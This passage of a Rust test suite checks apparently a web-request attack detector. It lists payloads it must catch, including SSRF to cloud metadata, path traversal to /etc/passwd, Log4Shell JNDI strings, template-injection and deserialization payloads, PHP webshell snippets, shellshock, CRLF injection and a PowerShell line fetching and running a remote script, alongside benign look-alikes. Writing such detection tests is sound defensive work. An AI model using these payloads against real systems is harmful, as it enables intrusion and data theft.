    /// A source-code host's views of a repository's files name files in
    /// the repository, hidden or dumped ones included; this server's own
    /// hidden files, and traversal out of such a view, are still found.
    /// A UNC path to a script in an include parameter is a remote include
    /// (SMB); a share's document, or a UNC path in another field, is not.
    #[test]
    fn unc_includes() {
        let page = cx(Kind::Value, "query.page");
        for a in [
            "\\\\evil.example\\share\\x.php",
            "\\\\10.0.0.9\\s\\shell.txt",
        ] {
            assert_eq!(
                files(a, &page).map(|f| f.1),
                Some("rfi.unc_include"),
                "{a:?}"
            );
        }
        let path = cx(Kind::Value, "query.path");
        assert!(unc_include("\\\\nas\\finance\\q3.xlsx", &path).is_none());
        let note = cx(Kind::Value, "body.json.note");
        assert!(unc_include("\\\\evil.example\\share\\x.php", &note).is_none());
        assert!(unc_include("\\\\x.php", &page).is_none());
    }

    #[test]
    fn repository_file_views_are_no_server_files() {
        let path = cx(Kind::Path, "path");
        for b in [
            "/acme/web/blob/main/.github/workflows/ci.yml",
            "/acme/web/-/raw/main/db/schema.sql",
            "/acme/web/src/branch/main/.env.example",
            "/api/v3/repos/acme/web/contents/.gitignore",
            "/acme/web/tree/v1.2/.vscode",
        ] {
            assert_eq!(files(b, &path), None, "flagged {b:?}");
        }
        for a in [
            "/.env",
            "/blob/.env",
            "/acme/.git/config",
            "/app/blob/main/.env",
            "/acme/web/blob/main/../../../../etc/passwd",
            "/acme/web/contents/x/../.env",
            "/backup.sql",
        ] {
            assert!(files(a, &path).is_some(), "missed {a:?}");
        }
        assert_eq!(repo_file_view("/a/b/blob/main/x/y"), Some(14));
        assert_eq!(repo_file_view("/blob/main/x"), None);
    }

    #[test]
    fn ssrf_host_spellings() {
        let c = cx(Kind::Value, "query.ssrf");
        for a in [
            "http://7147006462/",
            "http://0x41414141A9FEA9FE/",
            "xri://[0:0:0:0:0:ffff:169.254.169.254]",
            "acap://①②⑦.⓪.⓪.①",
            "irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
            "ssh://0177.00.00.01",
            "http://[fe80::%zone1]",
            "http://169。254。169。254/",
            "http://\\\\l\\\\o\\\\c\\\\a\\\\l\\\\h\\\\o\\\\s\\\\t/",
            "http:127.0.0.1",
            "http:0xA9FEA9FE",
            "http:/2852039166",
            "localhost/",
            "host.docker.internal/",
            "kubernetes.default.svc.cluster.local/",
            "lvh.me/",
            "http://127.0.0.1.nip.io/",
            "http://169.254.169.254.nip.io/latest/",
            "http://app.10.0.0.1.sslip.io/",
            "http://app-127-0-0-1.sslip.io/",
            "http://10-0-0-1.nip.io:8080/",
            "http://7f000001.nip.io/",
            "http://api.localtest.me/",
        ] {
            assert!(urls(a, &c).is_some_and(|f| f.0 == "ssrf"), "missed {a:?}");
        }
        for b in [
            "localhost",
            "docs/localhost.md",
            "metadata/schema.json",
            "https://github.com/org/repo",
            "ssh://git@github.com/org/repo.git",
            "intranet.example.com/wiki",
            "http://8.8.8.8.nip.io/",
            "http://app-93-184-216-34.sslip.io/",
            "http://nip.io/",
            "http://deadbeefcafe.nip.io/",
        ] {
            assert_eq!(urls(b, &c), None, "flagged {b:?}");
        }
    }

    /// An intranet's own traffic: the page a browser came from (Referer,
    /// Origin) and links back to the host the request went to are internal
    /// addresses, and none of them asks the server to fetch anything.
    #[test]
    fn ssrf_leaves_an_intranets_own_urls_alone() {
        let on = |kind, name, host| Ctx {
            kind,
            name,
            in_url: kind != Kind::Header,
            host,
        };
        let referer = on(Kind::Header, "header.Referer", "172.16.9.189");
        let origin = on(Kind::Header, "header.origin", "api.corp.example");
        let param = on(Kind::Value, "query.url", "10.0.0.5:8080");
        for (v, c) in [
            ("http://172.16.9.189/", &referer),
            ("http://10.20.0.7:3000/dashboard", &referer),
            ("http://localhost:3000", &origin),
            ("capacitor://localhost", &origin),
            ("ionic://localhost", &origin),
            ("tauri://localhost", &origin),
            ("capacitor://localhost/home", &referer),
            (
                "http://127.0.0.1:53682/",
                &on(Kind::Value, "query.redirect_uri", "accounts.example"),
            ),
            (
                "http://localhost:8080/callback",
                &on(Kind::Value, "body.form.redirect_uri", "id.example"),
            ),
            ("http://192.168.13.31:8080", &origin),
            ("http://10.0.0.5:8080/home", &param),
            ("https://10.0.0.5/account?tab=2", &param),
        ] {
            assert_eq!(urls(v, c), None, "flagged {v:?} in {}", c.name);
        }
        // What still counts: metadata anywhere, another internal host or
        // loopback in a parameter (even when the Host header says loopback).
        let loop_host = on(Kind::Value, "query.url", "127.0.0.1");
        for (v, c, rule) in [
            (
                "http://169.254.169.254/latest/meta-data/",
                &referer,
                "ssrf.cloud_metadata",
            ),
            ("http://10.0.0.6/admin", &param, "ssrf.internal_host"),
            ("http://127.0.0.1/admin", &param, "ssrf.internal_host"),
            ("http://127.0.0.1/admin", &loop_host, "ssrf.internal_host"),
            (
                "http://localhost:9000/hook",
                &on(Kind::Value, "query.callback_url", "api.example"),
                "ssrf.internal_host",
            ),
            (
                "http://169.254.169.254/",
                &on(Kind::Value, "query.redirect_uri", "id.example"),
                "ssrf.cloud_metadata",
            ),
        ] {
            assert_eq!(urls(v, c).map(|f| f.1), Some(rule), "{v:?} in {}", c.name);
        }
        // A URL inside prose is text about a machine; glued to code it is not.
        let chat = on(Kind::Value, "body.json.text", "chat.example");
        for v in [
            "deploy with `kubectl apply -f k8s/` then curl http://localhost:8080/health",
            "the wiki moved to http://10.1.2.3/wiki, see you there",
        ] {
            assert_eq!(urls(v, &chat), None, "flagged {v:?}");
        }
        for v in [
            ";iex (iwr http://10.0.10.10:8000/x.ps1)",
            "x=1&next=http://127.0.0.1/admin",
        ] {
            assert!(urls(v, &chat).is_some(), "missed {v:?}");
        }
        // A page opened from a file is where the browser came from.
        assert_eq!(files("file://", &origin), None);
        assert_eq!(
            files("file:///android_asset/www/index.html", &referer),
            None
        );
        assert_eq!(
            files("file:///var/www/config.php", &param).map(|f| f.1),
            Some("lfi.wrapper")
        );
    }
    #[test]
    fn node_js_and_template_probes() {
        for a in [
            "_$$ND_FUNC$$_function(){}",
            "this.constructor.constructor('return process')()",
            "#{require.main.constructor._load('fs')}",
            "process.env",
            "process[\"env\"]",
            "console.info(1)",
            "console[\"info\"](1)",
            "module.exports=1",
            "@{   [   system   \"id\"   ]   }",
            "Process.spawn(\"id\")",
            "while(!0);",
            "while(true)",
            "for(;;);",
        ] {
            assert!(code(a).is_some_and(|f| f.2 >= 0.5), "missed {a:?}");
        }
        for b in [
            "console.log(x) prints x; process.env.NODE_ENV is 'production'",
            "while (x < 10) { x++; }",
            "while you wait, for (a few minutes), read this",
            "Math.max(a, b) returns the larger one",
        ] {
            assert_eq!(code(b), None, "flagged {b:?}");
        }
        assert!(code("2.2250738585072011e-308").is_some());
        assert_eq!(code("2.25 kg"), None);
        let q = cx(Kind::Value, "query.mongoQ");
        assert!(nosql("[$lte]asdfsd", &q).is_some());
        assert_eq!(nosql("price [$] 10 [list]", &q), None);
        assert!(ssti("{% if True %}49{% endif %}").is_some());
        assert!(ssti("<% if True %>49<% endif %>").is_some());
        assert_eq!(ssti("{% if user %}Hi {{ user.name }}{% endif %}"), None);
        assert_eq!(ssti("<% if @items.any? %>list<% end %>"), None);
        // A Handlebars template names `this`; its RCE payload still counts.
        assert_eq!(
            ssti("{{#each items}}<li>{{this.name}} x {{this.qty}}</li>{{/each}}"),
            None
        );
        assert!(ssti("{{this.constructor.constructor('return process')()}}").is_some());
        assert!(ssti("{{#with \"s\" as |string|}}{{this.pop}}{{/with}}").is_some());
    }

    /// Two levels up toward no sensitive file is a build tool's asset or a
    /// stack trace's relative frame; three levels up, or any climb toward a
    /// sensitive file, is traversal.
    #[test]
    fn two_levels_up_is_a_relative_path() {
        let v = cx(Kind::Value, "body.json.assets.1");
        for b in [
            "../../design/tokens.json",
            "../../lib/python3.11/site-packages/flask/app.py",
            "../shared/logo.svg",
        ] {
            assert_eq!(files(b, &v), None, "flagged {b:?}");
        }
        for a in [
            "../../../design/tokens.json",
            "../../etc/passwd",
            "../../../../../../x",
        ] {
            assert!(files(a, &v).is_some(), "missed {a:?}");
        }
    }

    #[test]
    fn base64_alignments_decode_as_before() {
        // `b64_sextets` + `b64_pack` give `b64_shifted`'s bytes at every
        // alignment, and every alignment of a gadget name or the stream
        // magic (the token cut 0-3 characters in) is still found.
        let (mut six, mut packed, mut shifted) = (vec![], vec![], vec![]);
        for t in [
            "rO0ABXNy",
            "aW52b2tlcnRyYW5zZm9ybWVy",
            "Zm9vYmFy-_+/9",
            "",
            "QQ",
        ] {
            b64_sextets(t.as_bytes(), &mut six);
            for skip in 0..4 {
                packed.clear();
                b64_pack(six.iter().copied(), skip, &mut packed);
                b64_shifted(t.as_bytes(), skip, &mut shifted);
                assert_eq!(packed, shifted, "{t:?} skip {skip}");
            }
        }
        // base64 of `xx invokertransformer yy` and of `AC ED 00 05 73 72`.
        for t in ["eHggaW52b2tlcnRyYW5zZm9ybWVyIHl5", "rO0ABXNy"] {
            for cut in 0..4 {
                let tok = t.get(cut..).unwrap_or("");
                if tok.len() >= 8 {
                    assert!(java_base64(tok).is_some(), "{tok:?}");
                }
            }
        }
        assert_eq!(java_base64("aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ"), None);
    }

    #[test]
    fn b64_gadget_letter_runs() {
        // Every needle of `B64_GADGETS` (as built there) holds a run of
        // `B64_GADGET_RUN` ASCII letters: `b64_may_hit` looks for one.
        let inner = JAVA_GADGETS
            .iter()
            .filter(|g| g.len() >= 10)
            .chain(&["runtime"])
            .map(|g| g.get(1..g.len() - 1).unwrap_or(g));
        for n in inner {
            let longest = n
                .split(|c: char| !c.is_ascii_alphabetic())
                .map(str::len)
                .max()
                .unwrap_or(0);
            assert!(longest >= B64_GADGET_RUN, "{n:?}");
        }
    }

    /// Standard base64 of `b` (no padding), for the prefilter tests.
    fn b64_encode(b: &[u8]) -> String {
        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in b.chunks(3) {
            let n = chunk
                .iter()
                .enumerate()
                .fold(0u32, |acc, (i, &c)| acc | u32::from(c) << (16 - 8 * i));
            for i in 0..=chunk.len() {
                let v = (n >> (18 - 6 * i)) & 63;
                out.push(char::from(A[v as usize]));
            }
        }
        out
    }

    #[test]
    fn b64_prefilter_keeps_every_hit() {
        // Every needle the first search knows, at every byte offset in
        // filler, base64-encoded and cut at every alignment, in both
        // alphabets' spellings: prefiltered and not, the same verdict.
        let mut needles: Vec<Vec<u8>> = JAVA_GADGETS
            .iter()
            .chain(&[
                "runtime",
                "RunTime",
                "_$$ND_FUNC$$_",
                "\\u0077\\u0068ile(true);",
            ])
            .map(|n| n.as_bytes().to_vec())
            .collect();
        needles.push(vec![0xac, 0xed, 0x00, 0x05, 0x73, 0x72]);
        needles.push(vec![0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11]);
        let mut seen = 0;
        for n in &needles {
            for pad in 0..4 {
                for filler in [&b"\xff\x80\x01"[..], b"ab", b"\x00"] {
                    let mut raw: Vec<u8> = filler.iter().cycle().take(pad).copied().collect();
                    raw.extend_from_slice(n);
                    raw.extend_from_slice(filler);
                    let enc = b64_encode(&raw);
                    for cut in 0..4 {
                        let tok = enc.get(cut..).unwrap_or("");
                        for t in [tok.to_string(), tok.replace('+', "-").replace('/', "_")] {
                            let want = java_base64_with(&t, false);
                            seen += usize::from(want.is_some());
                            assert_eq!(java_base64_with(&t, true), want, "{t:?}");
                        }
                    }
                }
            }
        }
        assert!(seen > 100, "{seen}");
    }

    proptest::proptest! {
        #[test]
        fn b64_prefilter_matches_ungated(
            s in "[A-Za-z0-9+/_ -]{0,80}",
        ) {
            proptest::prop_assert_eq!(java_base64_with(&s, true), java_base64_with(&s, false));
        }
    }

    #[test]
    fn node_marker_in_base64() {
        // base64 of `_$$\u004e\u0044_FUNC$$_\u0066unction()` and of the plain marker.
        assert!(java_base64("XyQkXHUwMDRlXHUwMDQ0X0ZVTkMkJF9cdTAwNjZ1bmN0aW9uKCkK").is_some());
        assert!(java_base64("XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSgp").is_some());
        // `_$$ND_FUN` cut short, `_$$\u004eX`, plain words.
        assert_eq!(java_base64("XyQkTkRfRlVO"), None);
        assert_eq!(java_base64("XyQkXHUwMDRlWA"), None);
        // `\u0077\u0068ile(true);` under base64: a loop an eval spins on.
        assert!(java_base64("XHUwMDc3XHUwMDY4aWxlKHRydWUpOwo").is_some());
        assert_eq!(
            unescape_js(b"\\u0077\\u0068ile \\u12 \\uzzzz \xff"),
            "while \\u12 \\uzzzz \u{fffd}"
        );
        assert!(escaped_prefix(b"\\u004eD", b"ND"));
        assert!(!escaped_prefix(b"\\u004", b"N"));
        assert!(!escaped_prefix(b"\\uzz4e", b"N"));
    }

    #[test]
    fn js_marker_words() {
        for (v, hit) in [
            ("__js_function", true),
            ("x__JS_FUNCTION", true),
            ("__js_func", false),
            ("js_function_list", false),
            ("__init__ __main__", false),
        ] {
            assert_eq!(js_marker_word(v).is_some(), hit, "{v:?}");
        }
    }

    #[test]
    fn upload_words() {
        for (kind, name, v, hit) in [
            (
                Kind::Header,
                "header.X-Filename",
                "sess_d8ew88tqmabdcokhumchy8htqm",
                true,
            ),
            (
                Kind::Header,
                "header.X.Filename",
                "sess_1234567890abcdefghij",
                true,
            ),
            (
                Kind::Filename,
                "header.X-Filename.filename",
                "sess_abc-123-def-456-ghij",
                true,
            ),
            (Kind::Filename, "body.multipart.f.filename", "id_rsa", true),
            (
                Kind::Header,
                "header.X-Filename",
                "sess_2024_summary_final",
                false,
            ),
            (Kind::Header, "header.X-Filename", "sess_review", false),
            (Kind::Header, "header.X-Filename", "session_notes", false),
            (
                Kind::Value,
                "query.f",
                "sess_d8ew88tqmabdcokhumchy8htqm",
                false,
            ),
            (
                Kind::Header,
                "header.X-Request-Id",
                "sess_d8ew88tqmabdcokhumchy8htqm",
                false,
            ),
        ] {
            assert_eq!(
                upload_word(v, &cx(kind, name)).is_some(),
                hit,
                "{name} {v:?}"
            );
        }
    }

    #[test]
    fn php_uploads_ini_and_whole_calls() {
        let f = cx(Kind::Filename, "multipart.file.filename");
        for a in [
            "photo. php",
            "fda.php5...",
            "test.phar .png",
            "test. php5.gif",
            "fthi/sfewfda.php907.............",
            ".user.ini",
            "sess_d8ew88tqmabdcokhumchy8htqm",
            "/tmp/sess_attackervector1234567890",
            ".boto",
            "config.yml ",
            "wp-config-php.bak",
            "wp-config_php.txt",
            "authorized_keys",
        ] {
            assert!(php(a, &f).is_some(), "missed {a:?}");
        }
        for b in [
            "photo.jpeg",
            "report 2024.pdf",
            "phpunit-notes.txt",
            "sess_notes.txt",
            "my..notes.txt",
            "abc.botox.jpg",
            "amtrra.jpg",
            "config-notes.yml",
            "my.env.example.txt",
        ] {
            assert_eq!(php(b, &f), None, "flagged {b:?}");
            assert_eq!(files(b, &f), None, "flagged {b:?}");
        }
        for a in ["../1.7z", "..\\1.7z", "a/../../b.txt"] {
            assert!(files(a, &f).is_some(), "missed {a:?}");
        }
        let v = cx(Kind::Value, "query.file");
        assert!(files("ssh2.exec://user:pw@example.com:22/usr/bin/id", &v).is_some());
        let c = cx(Kind::Value, "body.x");
        for a in [
            "memory_limit = 512M",
            "opcache.jit_max_polymorphic_calls=50",
            "session.referer_check=true",
            "extension_dir=/path/to/example",
            "posix_getegid()",
            "sodium_crypto_aead_chacha20poly1305_ietf_keygen (",
            "array_diff (",
            "strrev( )",
            "get_defined_vars()[0]",
            "symlink//c\n()",
            "checkdate/*x*/()",
            "unserialize(foo)",
            "engine=true",
            "precision=On",
            "FOOcall_user_func()",
            "FOOGzInFlAtE()",
            "is_array()",
            "exec  (blah)",
            "exec\t(blah)",
            "exec #comment\n (blah)",
            "FILE\r\n()",
            "system(whoami)",
            "<?xml :echo 1;",
            "<?xml\t:system('ls');",
            "<?xml:echo 1;",
            "test<?",
            "[php]echo \"test\"",
            "[PHP]system('whoami');[/PHP]",
            "echo \"test\"{/php}",
            "Shell_exec=(bla)",
            "ZlIb_DeCoDe=(bla)",
        ] {
            assert!(php(a, &c).is_some(), "missed {a:?}");
        }
        let h = cx(Kind::Header, "header.X.Filename");
        for a in ["a.php", "dangerous.phpt", "sess_1234567890abcdefghij"] {
            assert!(php(a, &h).is_some(), "missed header {a:?}");
        }
        assert_eq!(
            php("a.php", &cx(Kind::Header, "header.X-Forwarded-For")),
            None
        );
        for b in [
            "engine=v8",
            "memory = 512M",
            "session.timeout = 30 minutes per the policy",
            "print(x)",
            "range(10)",
            "is_prime(7)",
            "get_user(id)",
            "fopen (the file) first, then read it",
            "Use substr() to cut the string, see the manual",
            "engine=v8",
            "precision=high",
            "file (1).txt",
            "System (new)",
            "<?xml version=\"1.0\"?><a/>",
            "<?xml  version='1.0'?>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?>",
            "<?xml?>",
            "See the [php] tag for snippets",
            "Wrap code in [php]...[/php] please",
            "my_call_user_function()",
            "encode=(utf-8)",
            "sort_by=(date)",
            "file_name=(draft)",
            "Shell_exec is a PHP function",
        ] {
            assert_eq!(php(b, &c), None, "flagged {b:?}");
        }
    }

    #[test]
    fn new_checks_are_bounded_on_hostile_input() {
        let c = cx(Kind::Value, "query.x");
        let f = cx(Kind::Filename, "multipart.f.filename");
        for v in [
            ")(".repeat(50_000),
            "'a'.".repeat(20_000) + "(",
            "$".repeat(100_000),
            "${".repeat(50_000),
            "$a[".repeat(30_000),
            "/*".repeat(50_000),
            "\r\na001 list ".repeat(10_000),
            "http:".repeat(20_000),
            "{% if 1 %}".repeat(10_000),
            ".".repeat(100_000),
            "GET / HTTP/1.1 ".repeat(10_000),
            "a ".repeat(50_000) + " HTTP/1",
            "x\r\n\r\nRemote-Addr: y".repeat(5_000),
            "a)(".to_string() + &" ".repeat(100_000),
            "unix:".repeat(20_000) + "|",
        ] {
            let start = std::time::Instant::now();
            let _ = (
                php(&v, &c),
                php(&v, &f),
                crlf(&v, &c),
                urls(&v, &c),
                code(&v),
                ssti(&v),
                splitting(&v),
                ldap(&v),
                mod_proxy_unix(&v),
            );
            assert!(start.elapsed().as_secs() < 5, "slow on {:?}", &v[..16]);
        }
    }

    #[test]
    fn lenient_ipv4_spellings() {
        for (h, ip) in [
            ("2130706433", "127.0.0.1"),
            ("0x7f000001", "127.0.0.1"),
            ("0177.0.0.1", "127.0.0.1"),
            ("127.1", "127.0.0.1"),
            ("0xA9.0xFE.0xA9.0xFE", "169.254.169.254"),
            ("10.0.0.5", "10.0.0.5"),
        ] {
            assert_eq!(lenient_ipv4(h), Some(ip.parse().unwrap()), "{h}");
        }
        assert_eq!(lenient_ipv4("example.com"), None);
        assert_eq!(lenient_ipv4("1.2.3.4.5"), None);
        assert_eq!(lenient_ipv4("256.1.1.1"), None);
    }

    #[test]
    fn table() {
        let v = cx(Kind::Value, "query.x");
        let path = cx(Kind::Path, "path");
        let hits: &[(&str, Option<ClassFound>, &str)] = &[
            ("../../etc/passwd", files("../../etc/passwd", &v), "ptrav"),
            (
                "/static/../../etc/passwd",
                files("/static/../../etc/passwd", &path),
                "ptrav",
            ),
            (
                "..\\..\\windows\\win.ini",
                files("..\\..\\windows\\win.ini", &v),
                "ptrav",
            ),
            (
                "php://filter",
                files("php://filter/convert.base64-encode/resource=index.php", &v),
                "lfi",
            ),
            ("/etc/shadow", files("/etc/shadow", &v), "lfi"),
            ("hidden", files("/.claude/settings.json", &path), "lfi"),
            ("log", files("/wp-content/debug.log", &path), "lfi"),
            (
                "ssh",
                files("/root/.ssh/id_rsa", &cx(Kind::Header, "header.X")),
                "lfi",
            ),
            (
                "http://169.254.169.254/latest",
                urls("http://169.254.169.254/latest/meta-data/", &v),
                "ssrf",
            ),
            (
                "http://[::ffff:127.0.0.1]/",
                urls("http://[::ffff:127.0.0.1]/", &v),
                "ssrf",
            ),
            (
                "http://2130706433/",
                urls("http://2130706433/admin", &v),
                "ssrf",
            ),
            ("gopher://", urls("gopher://x:25/_HELO", &v), "ssrf"),
            (
                "http://evil@127.0.0.1",
                urls("http://evil.com@127.0.0.1/", &v),
                "ssrf",
            ),
            ("rfi ip", urls("http://66.240.183.75/crash.php", &v), "rfi"),
            ("rfi ?", urls("https://evil.example/shell.txt?", &v), "rfi"),
            (
                "rfi known param",
                urls("https://foo.bar", &cx(Kind::Value, "query._CONF[path]")),
                "rfi",
            ),
            (
                "rfi mambo",
                urls(
                    "https://foo.bar",
                    &cx(Kind::Value, "query.mosConfig_absolute_path"),
                ),
                "rfi",
            ),
            ("entity no <", xxe("foo!ENTITY % bar SYSTEM"), "xxe"),
            (
                "schema probe",
                xxe("<aai xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.b/ http://c5ipg3yqo8lcutvn8bghsptofflee424qxdq1f.examplefoo.bar/aai.xsd\">aai</aai>"),
                "xxe",
            ),
            ("jndi", log4shell("${jndi:ldap://x/a}"), "log4shell"),
            (
                "jndi nested",
                log4shell("${${lower:j}${::-n}di:${lower:l}dap://x/a}"),
                "log4shell",
            ),
            (
                "jndi env",
                log4shell("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
                "log4shell",
            ),
            ("{{7*7}}", ssti("{{7*7}}"), "ssti"),
            (
                "jinja dunder",
                ssti("{{ ''.__class__.__mro__[1] }}"),
                "ssti",
            ),
            (
                "freemarker",
                ssti("<#assign ex=\"freemarker.template.utility.Execute\"?new()>"),
                "ssti",
            ),
            ("erb", ssti("<%= 7*7 %>"), "ssti"),
            (
                "xxe",
                xxe("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"),
                "xxe",
            ),
            (
                "nosql key",
                nosql("user[$ne]", &cx(Kind::Key, "query_key.user[$ne]")),
                "nosql",
            ),
            (
                "nosql where",
                nosql("$where", &cx(Kind::Key, "body.json_key.$where")),
                "nosql",
            ),
            ("crlf", crlf("x\r\nSet-Cookie: a=1", &v), "crlf"),
            (
                "mail",
                crlf(
                    "me@x.com\nBcc: all@x.com",
                    &cx(Kind::Value, "body.form.email"),
                ),
                "mail",
            ),
            ("ldap", ldap("*)(uid=*))(|(uid=*"), "ldap"),
            ("ldap2", ldap("admin)(|(password=*)"), "ldap"),
            ("ssi", ssi("<!--#exec cmd=\"ls\" -->"), "ssi"),
            ("java ser", deser("rO0ABXNyABFqYXZh"), "deser"),
            (
                "php ser",
                deser("O:8:\"stdClass\":1:{s:1:\"a\";i:2;}"),
                "deser",
            ),
            (
                "yaml",
                deser("!!python/object/apply:os.system ['id']"),
                "deser",
            ),
            (
                "proto",
                proto("__proto__", &cx(Kind::Key, "body.json_key.__proto__")),
                "proto",
            ),
            (
                "proto q",
                proto(
                    "query.__proto__[admin]",
                    &cx(Kind::Key, "query.__proto__[admin]"),
                ),
                "proto",
            ),
            (
                "redirect",
                redirect("//evil.example/x", &cx(Kind::Value, "query.next"), "app"),
                "redirect",
            ),
            (
                "redirect look-alike host",
                redirect(
                    "https://example.com.evil.com/",
                    &cx(Kind::Value, "query.next"),
                    "example.com",
                ),
                "redirect",
            ),
            (
                "redirect other co.uk",
                redirect(
                    "https://evil.co.uk/",
                    &cx(Kind::Value, "query.return_to"),
                    "shop.example.co.uk",
                ),
                "redirect",
            ),
            ("php", php("<?php system($_GET['c']); ?>", &v), "php"),
            ("php fn", php("file_put_contents('x.php','y')", &v), "php"),
            (
                "php upload",
                php(
                    "shell.php",
                    &cx(Kind::Filename, "body.multipart.f.filename"),
                ),
                "php",
            ),
            (
                "java",
                java("java.lang.Runtime.getRuntime().exec('id')"),
                "java",
            ),
            (
                "ognl",
                java("%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
                "java",
            ),
            (
                "spring4shell",
                java("class.module.classLoader.resources"),
                "java",
            ),
            ("node", code("require('child_process').exec('id')"), "code"),
            ("python", code("__import__('os').system('id')"), "code"),
            (
                "shellshock",
                shellshock("() { :; }; /bin/bash -c id"),
                "rce",
            ),
        ];
        for (what, got, want) in hits {
            assert_eq!(got.map(|g| g.0), Some(*want), "{what}: {got:?}");
        }
    }

    #[test]
    fn hard_negatives() {
        let v = cx(Kind::Value, "query.x");
        let path = cx(Kind::Path, "path");
        assert_eq!(files("../docs/readme.md", &v), None);
        assert_eq!(files("/api/v1/users/130", &path), None);
        assert_eq!(files("/static/app.js", &path), None);
        assert_eq!(files("/.well-known/openid-configuration", &path), None);
        assert_eq!(files("/docs/v1.2/guide", &path), None);
        assert_eq!(files("see /sys/ admin notes", &v), None);
        assert_eq!(files("see the .environment docs", &v), None);
        assert_eq!(
            urls(
                "https://example.com/callback",
                &cx(Kind::Value, "query.redirect_uri")
            ),
            None
        );
        assert_eq!(urls("See https://docs.rs/regex for details", &v), None);
        assert_eq!(log4shell("${HOME} and ${user}"), None);
        assert_eq!(ssti("Hello {{name}}, welcome"), None);
        assert_eq!(ssti("price: ${amount}"), None);
        assert_eq!(xxe("<!-- a comment -->"), None);
        assert_eq!(
            xxe("<project xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\">"),
            None
        );
        assert_eq!(xxe("the !ENTITY keyword"), None);
        assert_eq!(
            urls("https://example.com/me", &cx(Kind::Value, "body.homepage")),
            None
        );
        assert_eq!(
            urls(
                "https://cdn.example.com/a.png",
                &cx(Kind::Value, "query.path")
            ),
            None
        );
        assert_eq!(nosql("price $5", &v), None);
        assert_eq!(
            crlf("line one\nline two", &cx(Kind::Value, "body.json.note")),
            None
        );
        assert_eq!(ldap("(a)(b) notes"), None);
        assert_eq!(deser("Order:12"), None);
        assert_eq!(
            redirect("/account", &cx(Kind::Value, "query.next"), "app"),
            None
        );
        assert_eq!(
            redirect("https://app/x", &cx(Kind::Value, "query.next"), "app"),
            None
        );
        assert_eq!(
            redirect(
                "https://shop.example.com/cart",
                &cx(Kind::Value, "query.return_to"),
                "api.example.com"
            ),
            None
        );
        assert_eq!(
            redirect(
                "https://www.example.co.uk/",
                &cx(Kind::Value, "query.next"),
                "login.example.co.uk"
            ),
            None
        );
        assert_eq!(
            redirect(
                "https://app.example/auth/callback",
                &cx(Kind::Value, "query.redirect_uri"),
                "auth.example.com"
            ),
            None
        );
        assert_eq!(php("Our system (v2) is great", &v), None);
        assert_eq!(php("eval the results", &v), None);
        assert_eq!(java("org.example.app is our package"), None);
        assert_eq!(code("const x = require('lodash')"), None);
    }

    #[test]
    fn log4shell_is_bounded() {
        let s = "${".repeat(50_000) + &"}".repeat(50_000);
        let _ = log4shell(&s);
        let s = "}".repeat(100_000);
        let _ = log4shell(&s);
    }

    #[test]
    fn splitting_names_paths_and_header_lines() {
        let q = &cx(Kind::Value, "query.var");
        let form = &cx(Kind::Value, "body.form.var");
        let xml = &Ctx {
            in_url: false,
            ..cx(Kind::Value, "body.xml.a@probe")
        };
        let cookie = &cx(Kind::Cookie, "cookie.oreo");
        let header = &cx(Kind::Header, "header.SomeHeader");
        for (a, c, rule) in [
            ("\r%0restofdata", &cx(Kind::Key, "query_key.x"), "crlf.name"),
            ("parameter\r\n", &cx(Kind::Key, "query_key.x"), "crlf.name"),
            ("/foo\nbar", &cx(Kind::Path, "path"), "crlf.path"),
            (
                "/index.php/PHP_VALUE\nsession.auto_start=1",
                &cx(Kind::Path, "path"),
                "crlf.path",
            ),
            ("\r\nRemote-addr: foo.bar.com", q, "crlf.header_injection"),
            (
                "foobar\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
                xml,
                "crlf.response_splitting",
            ),
            (
                "foobar\r\nX: 1\r\n\r\nHTTP/1.1 200 OK\r\n",
                form,
                "crlf.response_splitting",
            ),
            (
                "munchmuch\r\n\r\n<HTML><title></title></HTML>",
                cookie,
                "crlf.response_splitting",
            ),
            (
                "Headerdata\rInjectedHeader: response_splitting_code",
                header,
                "crlf.header_injection",
            ),
        ] {
            assert_eq!(crlf(a, c).map(|f| f.1), Some(rule), "{a:?}");
        }
        for (b, c) in [
            ("Hello team\r\nNote: bring snacks\r\nSubject to change", q),
            ("Thanks!\r\nNote: see above", q),
            ("Thanks!\r\nNote: see above", form),
            ("Agenda\r\n\r\nTopic: budget\r\nRoom: 4", q),
            (
                "I ran curl -i and got\nHTTP/1.1 500 Internal Server Error",
                q,
            ),
            ("para one\r\n\r\n<b>para two</b>", q),
            ("para\n\n<p>two</p>", &cx(Kind::Value, "body.json.body")),
            ("line one\nline two", &cx(Kind::Key, "body.json_key.x")),
            ("select 1\n", &cx(Kind::Key, "body.form_key.x")),
            (
                "--0000\nContent-Disposition: form-data; name",
                &cx(Kind::Key, "body.form_key.x"),
            ),
            ("Thanks!\nVia: the side door", q),
            ("Meeting\r\nLocation: Room 4", q),
            ("Meeting\r\nLocation: Room 4", form),
            ("Dinner booked\r\nHost: Anna\r\nGuests: 6", q),
            ("Attached\r\nContent-Type: notes", form),
            ("Hi all,\r\nSubject: lunch\r\nWhere shall we go?", form),
            ("Plan\r\nSubject: lunch", q),
            ("Fwd\r\nCookie: chocolate chip", q),
            ("Recipe\r\nSet-Cookie: no, bake it", form),
            ("Ask Bob\r\nTo: the team", form),
        ] {
            assert_eq!(crlf(b, c), None, "flagged {b:?}");
        }
        // What real injections put on the line: a cookie, a URL or host, a
        // media type, digits, an address beside a mail header.
        for (a, c, class) in [
            ("x\r\nSet-Cookie: a=1; path=/", q, "crlf"),
            ("x\r\nLocation: http://evil.example/", q, "crlf"),
            ("x\r\nRefresh: 0; url=http://evil.example/", form, "crlf"),
            ("x\r\nHost: evil.example", q, "crlf"),
            ("x\r\nContent-Type: text/html", q, "crlf"),
